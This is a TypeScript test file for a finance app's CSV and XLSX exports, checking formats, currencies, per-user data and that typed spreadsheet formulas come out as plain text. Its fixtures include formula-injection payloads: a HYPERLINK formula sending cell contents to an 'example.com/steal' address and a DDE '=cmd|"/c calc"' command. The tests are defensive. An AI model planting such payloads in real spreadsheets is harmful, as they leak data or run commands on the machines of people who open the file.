/**
 * The exports over HTTP on SQLite and MariaDB, read back with exceljs and SheetJS: one
 * header row, numbers as numbers, dates as dates, CSV in UTF-8 with a BOM, and every value a person
 * typed kept as text (a `=HYPERLINK(...)` category is a string cell, never a formula; in CSV it
 * starts with `'`).
 */
import * as XLSX from '@e965/xlsx';
import ExcelJS from 'exceljs';
import type { Response } from 'supertest';
import { SPENDING_HEADER } from '../src/services/exports/exports';
import type { ApiClient } from './support/client';
import { testEngines } from './support/engines';
import { goalBody } from './support/goal-body';
import { useTestApp } from './support/test-app';
import { day, runPipeline, xlsx } from './support/workflow';

const TEMPLATE = 'wealth-whisperer';
const HYPERLINK = '=HYPERLINK("http://example.com/steal?x="&A1,"Click")';

async function log(): Promise<Buffer> {
  return xlsx([
    {
      name: 'Log',
      rows: [
        ['Date', 'Category', 'Subcategory', 'Description', 'Amount'],
        [day('2025-01-03'), 'Income', 'Salary', 'Payroll, "ACME"', 2000],
        [day('2025-01-09'), HYPERLINK, 'Links', '@SUM(1+1)', -40.5],
        [day('2025-02-03'), 'Food', 'Groceries', '+1 call me', -60],
        [day('2025-02-04'), 'Food', 'Groceries', '-2+3', -10.25],
        [day('2025-02-05'), 'Food', 'Café', 'Crème brûlée', -7],
      ],
    },
  ]);
}

/** Collects a binary answer into a Buffer. */
function binary(res: unknown, done: (error: Error | null, body: Buffer) => void): void {
  const stream = res as NodeJS.ReadableStream;
  const chunks: Buffer[] = [];
  stream.on('data', (chunk: Buffer) => chunks.push(chunk));
  stream.on('end', () => done(null, Buffer.concat(chunks)));
}

async function download(client: ApiClient, path: string): Promise<Response> {
  return client.http.get(path).buffer(true).parse(binary);
}

/** CSV lines split naively (the fixtures quote only where a test checks the quoting). */
function csvLines(body: Buffer): string[] {
  return body
    .toString('utf8')
    .split('\r\n')
    .filter((line) => line !== '');
}

describe.each(testEngines())('exports on %s', (engine) => {
  const testApp = useTestApp(engine);

  async function userWithLog(): Promise<ApiClient> {
    const client = testApp().client();
    await client.signUp('ann@example.com');
    await runPipeline(
      client,
      TEMPLATE,
      { buffer: await log(), fileName: 'log.xlsx' },
      { selected_sheets: ['Log'], selected_date: '2025-01-01', period_type: 'monthly' },
    );
    return client;
  }

  it('transactions.xlsx: one header row, dates as dates, amounts as numbers, a typed formula kept as a text cell (exceljs and SheetJS)', async () => {
    const client = await userWithLog();
    const res = await download(client, '/export/transactions.xlsx');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(res.headers['content-disposition']).toBe('attachment; filename="transactions.xlsx"');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body);
    const sheet = workbook.worksheets[0];
    const rows: unknown[][] = [];
    sheet.eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    expect(rows[0]).toEqual([
      'Date',
      'Description',
      'Category',
      'Subcategory',
      'Type',
      'Amount',
      'Currency',
      'Original amount',
      'Original currency',
    ]);
    expect(rows).toHaveLength(6);
    expect(rows[1]).toEqual([new Date('2025-02-05T00:00:00Z'), 'Crème brûlée', 'Food', 'Café', 'Expense', -7, 'USD']);
    // The amount is a number shown as money in the user's currency (US dollars until they have a home currency).
    expect(sheet.getRow(2).getCell(6).numFmt).toBe('"$"#,##0.00;-"$"#,##0.00');
    const linkRow = sheet.getRow(rows.findIndex((row) => row[2] === HYPERLINK) + 1);
    expect(linkRow.getCell(3).type).toBe(ExcelJS.ValueType.String);
    expect(linkRow.getCell(3).formula).toBeUndefined();
    expect(linkRow.getCell(2).value).toBe('@SUM(1+1)');
    expect(linkRow.getCell(6).value).toBe(-40.5);

    const read = XLSX.read(res.body as Buffer, { type: 'buffer', cellDates: true });
    const cells = read.Sheets[read.SheetNames[0]];
    const linkAddress = Object.keys(cells).find((address) => (cells[address] as XLSX.CellObject).v === HYPERLINK)!;
    expect(cells[linkAddress]).toMatchObject({ t: 's', v: HYPERLINK });
    expect((cells[linkAddress] as XLSX.CellObject).f).toBeUndefined();
    expect((cells.A2 as XLSX.CellObject).t).toBe('d');
    expect(cells.F2).toMatchObject({ t: 'n', v: -7 });
  });

  it('transactions.csv: UTF-8 with BOM, the list’s filters, typed values starting = + - @ prefixed with a quote, numbers and dates as they are', async () => {
    const client = await userWithLog();
    const res = await download(client, '/export/transactions.csv');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    const body = res.body as Buffer;
    expect([...body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = csvLines(body.subarray(3));
    expect(lines).toEqual([
      'Date,Description,Category,Subcategory,Type,Amount,Currency,Original amount,Original currency',
      '2025-02-05,Crème brûlée,Food,Café,Expense,-7,USD,,',
      "2025-02-04,'-2+3,Food,Groceries,Expense,-10.25,USD,,",
      "2025-02-03,'+1 call me,Food,Groceries,Expense,-60,USD,,",
      `2025-01-09,'@SUM(1+1),"'=HYPERLINK(""http://example.com/steal?x=""&A1,""Click"")",Links,Expense,-40.5,USD,,`,
      '2025-01-03,"Payroll, ""ACME""",Income,Salary,Income,2000,USD,,',
    ]);

    const food = csvLines((await download(client, '/export/transactions.csv?category=Food&from=2025-02-04')).body as Buffer);
    expect(food).toHaveLength(3);
    const refused = await client.get('/export/transactions.csv?type=Food');
    expect(refused.status).toBe(400);
    expect(refused.body).toEqual({ success: false, error: expect.stringMatching(/type must be one of/) });
  });

  it('spending.xlsx: a sheet per period against the previous one, figures as the analysis has them', async () => {
    const client = await userWithLog();
    const res = await download(client, '/export/spending.xlsx');
    expect(res.status).toBe(200);
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(res.body);
    expect(workbook.worksheets.map((sheet) => sheet.name)).toEqual(['12 Months', '6 Months', '3 Months']);
    const rows: unknown[][] = [];
    workbook.worksheets[0].eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
    expect(rows[0]).toEqual(SPENDING_HEADER);
    const analysis = (await client.get('/spending/api/spending-analysis')).body;
    const food = analysis.period_data.LY.expense_categories.Food;
    expect(rows.find((row) => row[1] === 'Food' && row[2] === undefined)?.slice(3)).toEqual([
      food.total,
      0,
      food.total,
      food.percent_of_income,
      food.average_per_period,
      'USD',
    ]);
    expect(rows.find((row) => row[0] === 'Expense' && row[1] === 'Total')?.slice(3, 6)).toEqual([
      analysis.period_data.LY.total_expenses,
      0,
      analysis.period_data.LY.total_expenses,
    ]);
    const link = workbook.worksheets[0].getRow(rows.findIndex((row) => row[1] === HYPERLINK) + 1).getCell(2);
    expect(link.type).toBe(ExcelJS.ValueType.String);
  });

  it('goals.csv and networth.csv: the user’s own rows, names a person typed neutralised', async () => {
    const client = await userWithLog();
    expect((await client.post('/goals/api/goals', goalBody({ name: '=cmd|"/c calc"!A1' }))).status).toBe(201);
    await client.put('/networth/api/networth/init-categories');
    expect(
      (
        await client.post('/networth/api/networth/entries', {
          type: 'asset',
          category: 'Cash',
          name: '@evil',
          value: 1234.5,
          date: '2025-01-01',
        })
      ).status,
    ).toBe(201);
    const other = testApp().client();
    await other.signUp('bob@example.com');
    await other.post('/goals/api/goals', goalBody({ name: 'Bob’s goal' }));

    const goals = csvLines(((await download(client, '/export/goals.csv')).body as Buffer).subarray(3));
    expect(goals[0]).toBe(
      'Name,Category,Current amount,Target amount,Target date,Contribution,Frequency,Interest rate,On track,Projected completion,Currency',
    );
    expect(goals).toHaveLength(2);
    expect(goals[1]).toMatch(/^"'=cmd\|""\/c calc""!A1",emergency,100,1000,2025-12-14,100,monthly,0,/);

    const networth = csvLines(((await download(client, '/export/networth.csv')).body as Buffer).subarray(3));
    expect(networth).toEqual(['Date,Type,Category,Name,Value,Currency', "2025-01-01,asset,Cash,'@evil,1234.5,USD"]);
  });

  it('writes every amount in the home currency: a Currency column in CSV, the currency’s format in .xlsx', async () => {
    const client = await userWithLog();
    expect((await client.put('/account/home-currency', { home_currency: 'CHF' })).status).toBe(200);
    const csv = csvLines(((await download(client, '/export/transactions.csv')).body as Buffer).subarray(3));
    expect(csv[1]).toBe('2025-02-05,Crème brûlée,Food,Café,Expense,-7,CHF,,');

    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load((await download(client, '/export/transactions.xlsx')).body);
    const amount = workbook.worksheets[0].getRow(2).getCell(6);
    expect(amount.value).toBe(-7);
    expect(amount.numFmt).toBe('"CHF "#,##0.00;-"CHF "#,##0.00');

    const spending = new ExcelJS.Workbook();
    await spending.xlsx.load((await download(client, '/export/spending.xlsx')).body);
    const total = spending.worksheets[0].getRow(2);
    expect(total.getCell(4).numFmt).toBe('"CHF "#,##0.00;-"CHF "#,##0.00');
    expect(total.getCell(9).value).toBe('CHF');

    await client.put('/networth/api/networth/init-categories');
    await client.post('/networth/api/networth/entries', { type: 'asset', category: 'Cash', name: 'Konto', value: 10, date: '2025-01-01' });
    const networth = csvLines(((await download(client, '/export/networth.csv')).body as Buffer).subarray(3));
    expect(networth[1]).toBe('2025-01-01,asset,Cash,Konto,10,CHF');
  });

  it('refuses a visitor', async () => {
    for (const path of [
      '/export/transactions.csv',
      '/export/transactions.xlsx',
      '/export/spending.xlsx',
      '/export/goals.csv',
      '/export/networth.csv',
    ]) {
      expect((await testApp().client().get(path)).status).toBe(401);
    }
  });
});
